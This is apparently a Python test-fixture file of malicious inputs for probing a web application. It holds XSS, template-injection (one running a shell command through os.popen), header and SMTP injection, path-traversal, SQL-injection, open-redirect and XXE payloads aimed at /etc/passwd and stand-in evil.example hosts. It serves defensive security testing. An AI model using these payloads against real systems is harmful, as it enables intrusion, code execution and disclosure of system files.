"""Texts, addresses and bodies that people send who mean no good."""

# ruff: noqa: E501

MARK = "qzx"  # stands in every text, so that a page that shows it can be searched

SCRIPTS = (
    "<script>alert('qzx')</script>",
    "</textarea><script>alert('qzx')</script>",
    "</title></style></script><img src=x onerror=alert('qzx')>",
    "\"><svg onload=alert('qzx')>",
    "' autofocus onfocus='alert(1)' qzx='",
    '" autofocus onfocus="alert(1)" qzx="',
    "<a href=\"javascript:alert('qzx')\">qzx</a>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>qzx",
    "<iframe srcdoc='<script>alert(1)</script>'>qzx",
    "<form action=https://evil.example><button>qzx",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>qzx",
    "<base href=https://evil.example>qzx",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>qzx",
    "<!--><img src=x onerror=alert(1)>qzx-->",
    "&lt;script&gt;qzx&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\u202eqzx<b>\u2066terbalik\u2069",
    "<x\x0conclick=alert(1)>qzx",
    "\ufeff<script\u2028>qzx",
)
TEMPLATES = (  # each gives 1787569 where it is worked out
    "{{1337*1337}}qzx",
    "{% print 1337*1337 %}qzx",
    "${1337*1337}qzx",
    "#{1337*1337}qzx",
    "<%= 1337*1337 %>qzx",
    "{{''.__class__.__mro__[1].__subclasses__()}}{{1337*1337}}qzx",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('expr 1337 \\* 1337').read()}}qzx",
    "*{1337*1337}qzx{{config}}",
    "{0.__class__}%(qzx)s%s%n{visit.secret}",
)
HEADERS = (
    "qzx\r\nBcc: mata@evil.example",
    "qzx\nX-Evil: ya\n\nisi palsu",
    "qzx\r\n.\r\nMAIL FROM:<x@evil.example>\r\n",
    "qzx%0d%0aSet-Cookie: sop=jahat",
    "qzx\u2028X-Evil: ya\u2029\x85X-Evil: ya",
    "=?utf-8?q?qzx=0d=0aBcc:_mata=40evil.example?=",
    "=?utf-8?B?cXp4DQpCY2M6IG1hdGFAZXZpbC5leGFtcGxl?= qzx",
    "qzx\x0b\x0c\x1c\x1d\x1e\x1b[31m",
    "qzx\x00akhir",
)
PATHS = ("../../../../etc/passwd", "..\\..\\qzx", "/etc/passwd\x00.pdf", "%2e%2e%2fetc%2fpasswd", "file:///etc/passwd")
LONG = ("qzx" + "a" * 100_000, "qzx" + "<" * 20_000, "qzx" + "\U0001f600" * 5_000, "qzx" + "\u0301" * 5_000)
TEXTS = (*SCRIPTS, *TEMPLATES, *HEADERS, *PATHS, *LONG, "\ud800qzx".encode("utf-8", "replace").decode())
TOGETHER = "\n".join((*SCRIPTS, *TEMPLATES, *HEADERS, *PATHS))
NUMBERS = ("-1", "0", "1e9", "9" * 40, "٣", "1;DROP TABLE tasks", "' OR 1=1 --", "NaN", "", "1\x00", "²")

ADDRESSES = (  # where a number or a file is expected
    "/kasus/{}", "/edisi/{}", "/berkas/{}", "/tugas/{}", "/pengesahan/{}", "/statis/{}", "/{}",
)  # fmt: skip
STEPS = (
    *(
        "..%2f..%2f..%2fetc%2fpasswd",
        "%2e%2e/%2e%2e/app.py",
        "..%5c..%5capp.py",
        "....//....//etc/passwd",
        "..;/app.py",
    ),
    *("gaya.css/../../app.py", "%00", "gaya.css%00.png", "%c0%ae%c0%ae/", "%ff%fe", "9" * 30, "-1", "1.0", "1%20"),
    *(
        "%0d%0aSet-Cookie:%20x=y",
        "<script>",
        "%3Cscript%3Eqzx",
        "{{7*7}}",
        "a" * 5000,
        "1;x=y",
        "1/",
        "~root",
        ".git/config",
    ),
)
ELSEWHERE = (
    *("//evil.example", "https://evil.example", "/\\evil.example", "\\\\evil.example", "///evil.example/%2f.."),
    *("/%2f/evil.example", "/tugas/../../evil.example", "javascript:alert(1)", "/tugas/1@evil.example", "evil.example"),
    *("/tugas\r\nLocation: https://evil.example", "http:/evil.example", "http:evil.example", "data:text/html,qzx"),
    *(
        "/.evil.example",
        "/\t/evil.example",
        "https:evil.example",
        "〱evil.example",
        "/〱evil.example",
        "//evil%E3%80%82example",
    ),
    *(
        "/tugas?x=//evil.example",
        "/tugas#//evil.example",
        "%2f%2fevil.example",
        " //evil.example",
        "\x00//evil.example",
    ),
)
BODIES = (  # content type, body
    ("application/x-www-form-urlencoded", b"\xff\xfe=%ff%fe&hasil=%c3%28&_tanda=%80"),
    ("application/x-www-form-urlencoded; charset=utf-16", "hasil=qzx".encode("utf-16")),
    ("application/x-www-form-urlencoded", b"&".join(b"a%d=1" % n for n in range(5000))),
    ("application/x-www-form-urlencoded", b"%" * 50_000),
    ("application/json", b'{"_tanda": "x"}'),
    ("application/json", b"[" * 50_000),
    ("application/xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ("text/plain", b"_tanda=x"),
    ("", b"_tanda=x"),
    ("multipart/form-data", b"--x\r\n"),
    ("multipart/form-data; boundary=", b"--\r\n\r\n"),
    ("multipart/form-data; boundary=x", b"--y\r\nnonsense"),
    ("multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; name="hasil"\r\n\r\n\xff\xfe\x80\r\n--x--\r\n'),
    ("multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; name="bukti"; filename="../../x"\r\n\r\nx'),
    ("multipart/form-data; boundary=x", b'--x\r\nContent-Disposition: form-data; filename="\xff"\r\n\r\nx\r\n--x--\r\n'),
    ("multipart/form-data; boundary=x; charset=nirwana", b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n--x--\r\n'),
    ("multipart/form-data; boundary=" + "x" * 5000, b"--x--"),
    ("multipart/form-data; boundary=x", b"".join(
        b'--x\r\nContent-Disposition: form-data; name="f"; filename="f"\r\n\r\nx\r\n' for _ in range(50)
    ) + b"--x--\r\n"),
)  # fmt: skip
